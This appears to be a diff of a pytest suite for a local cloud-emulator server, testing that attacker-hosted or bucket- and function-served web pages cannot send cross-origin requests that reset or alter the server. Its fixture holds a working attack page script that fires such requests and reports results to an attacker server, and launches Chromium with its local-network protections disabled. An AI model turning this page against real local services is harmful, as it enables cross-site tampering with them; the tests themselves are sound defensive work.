@@ -44,7 +44,7 @@ LINK = [("/?" + urllib.parse.urlencode({**FORM, "X-Amz-Credential": "any/2026010
 RESET = [("/_stepwell/reset", {"method": "POST", "mode": "no-cors"})]
 
 PAGE = """<!doctype html><body><script>
-const {base, requests, form} = %s;
+const {base, report, requests, form} = %s;
 const attack = async () => {
   const results = [];
   for (const [path, init] of requests) {
@@ -68,7 +68,7 @@ const attack = async () => {
     await new Promise(done => { frame.addEventListener("load", done); made.submit(); });
     results.push("sent");
   }
-  await fetch("/report", {method: "POST", body: JSON.stringify(results)});
+  await fetch(report, {method: "POST", mode: "no-cors", body: JSON.stringify(results)});
 };
 attack();
 </script>"""
@@ -147,16 +147,19 @@ def attacker():
 
 @pytest.fixture
 def visit(tmp_path):
-    """visit(attacker, host, base, requests, form): the page's own account of what it got."""
-    def go(attacker, host, base, requests, form=None):
-        attacker.page = PAGE % json.dumps({"base": base, "requests": requests, "form": form})
+    """visit(attacker, host, base, requests, form): the page's own account of what it got. The attacker's server has the page, or `keep`
+    puts it somewhere and returns its URL."""
+    def go(attacker, host, base, requests, form=None, keep=None):
+        report = f"http://{host}:{attacker.port}/report"
+        attacker.page = PAGE % json.dumps({"base": base, "report": report, "requests": requests, "form": form})
+        url = keep(attacker.page) if keep else f"http://{host}:{attacker.port}/page"
         profile = tmp_path / "profile"
         # The browser's own defences of local servers are young, and other browsers have none: they must not hide ours.
         command = [CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
                    "--no-proxy-server", "--disable-background-networking", "--disable-component-update", "--disable-sync",
                    "--disable-features=HttpsUpgrades,HttpsFirstBalancedMode,LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,"
                    "PrivateNetworkAccessRespectPreflightResults",
-                   "--host-resolver-rules=MAP *.example 127.0.0.1", f"--user-data-dir={profile}", f"http://{host}:{attacker.port}/page"]
+                   "--host-resolver-rules=MAP *.example 127.0.0.1", f"--user-data-dir={profile}", url]
         with open(tmp_path / "chromium.log", "wb") as log:
             browser = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=log, stderr=log)
         try:
@@ -248,3 +251,47 @@ def test_a_name_that_the_server_was_told_to_trust(own_server, attacker, visit):
     assert state(server) == {**OVERRUN, "objects": []}
     assert visit(attacker(server), "rebound.example", "", [(RESET[0][0], {"method": "POST"})]) == ["200"]
     assert state(server) == EMPTY
+
+
+def test_a_page_of_a_bucket_is_not_of_our_origin(own_server, attacker, visit):
+    server = own_server(data_dir=":memory:")
+    prepare(server)
+
+    def keep(page):
+        s3 = server.client("s3", s3={"addressing_style": "path"})
+        s3.create_bucket(Bucket="pages")
+        s3.put_object(Bucket="pages", Key="page.html", Body=page.encode(), ContentType="text/html")
+        return f"http://127.0.0.1:{server.port}/pages/page.html"
+
+    requests = [(path, {**init, "mode": "cors"}) for path, init in RESET + SIMPLE + ASKED_FOR]
+    results = visit(attacker(server), "127.0.0.1", "http://127.0.0.1:%d" % server.port, requests, FORM, keep)
+    assert results == ["blocked"] * len(requests) + ["sent"]
+    assert state(server) == {**UNTOUCHED, "buckets": ["pages", "precious"]}
+
+
+@pytest.mark.parametrize("policy", [None, "default-src 'self'"])
+def test_a_page_of_a_function_is_not_of_our_origin(own_server, policy):
+    """As a browser would be told; what the function itself says of its page holds as well."""
+    server = own_server(data_dir=":memory:")
+    headers = {"content-type": "text/html", **({"content-security-policy": policy} if policy else {})}
+    source = f"def handler(event, context):\n    return {{'statusCode': 200, 'headers': {headers!r}, 'body': '<p>'}}\n"
+    functions = server.client("lambda")
+    functions.create_function(FunctionName="page", Runtime="python3.11", Handler="index.handler", Role=ROLE,
+                              Code={"ZipFile": zipped({"index.py": source})})
+    functions.get_waiter("function_active_v2").wait(FunctionName="page")
+    url = urllib.parse.urlsplit(functions.create_function_url_config(FunctionName="page", AuthType="NONE")["FunctionUrl"])
+    functions.add_permission(FunctionName="page", StatementId="all", Action="lambda:InvokeFunctionUrl", Principal="*",
+                             FunctionUrlAuthType="NONE")
+
+    def policies(path, host):
+        connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=LIMIT)
+        connection.request("GET", path, headers={"Host": host})
+        answer = connection.getresponse()
+        assert answer.status == 200, answer.read()
+        connection.close()
+        return answer.headers.get_all("Content-Security-Policy") or []
+
+    own = [policy] if policy else []
+    found = policies(url.path, url.netloc)
+    assert found[:-1] == own and found[-1].startswith("sandbox ") and "allow-same-origin" not in found[-1]
+    assert policies("/", url.path.split("/")[2] + ".lambda-url.us-east-1.localhost") == own
